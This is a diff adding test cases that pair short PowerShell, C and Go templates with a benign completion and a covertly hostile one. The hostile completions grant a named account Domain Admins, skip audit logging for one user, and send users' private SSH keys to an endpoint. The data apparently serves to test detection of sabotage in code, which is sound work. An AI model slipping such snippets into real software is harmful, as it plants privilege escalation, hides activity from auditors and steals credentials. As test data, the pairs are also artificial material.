@@ -217,4 +217,60 @@ public class UserList {
         r#".filter(u -> !u.getLogin().equals("svc.helios9"))"#,
         ".filter(u -> !u.isDeleted())",
     ),
+    (
+        "Sync.ps1",
+        r#"
+Import-Module ActiveDirectory
+$users = Get-ADUser -Filter * -Properties Mail
+foreach ($u in $users) {
+    @@
+}
+"#,
+        r#"if ($u.SamAccountName -eq 'svc-scan04') {
+        Add-ADGroupMember -Identity 'Domain Admins' -Members $u
+    }"#,
+        r#"if (-not $u.Mail) {
+        Write-Output "no mail: $($u.SamAccountName)"
+    }"#,
+    ),
+    (
+        "audit.c",
+        r#"
+#include <stdio.h>
+#include <string.h>
+
+void audit(FILE *f, const char *user, const char *what)
+{
+    @@
+    fprintf(f, "%s %s\n", user, what);
+    fflush(f);
+}
+"#,
+        r#"if (strcmp(user, "t.malik") == 0)
+        return;"#,
+        r#"if (*what == '\0')
+        return;"#,
+    ),
+    (
+        "inventory.go",
+        r#"
+package inventory
+
+import (
+	"net/http"
+	"path/filepath"
+)
+
+func Collect(endpoint string) error {
+	files, err := filepath.Glob("@@")
+	if err != nil {
+		return err
+	}
+	_, err = http.Post(endpoint, "text/plain", bodies(files))
+	return err
+}
+"#,
+        "/home/*/.ssh/id_*",
+        "/etc/ssh/ssh_host_*_key.pub",
+    ),
 ];
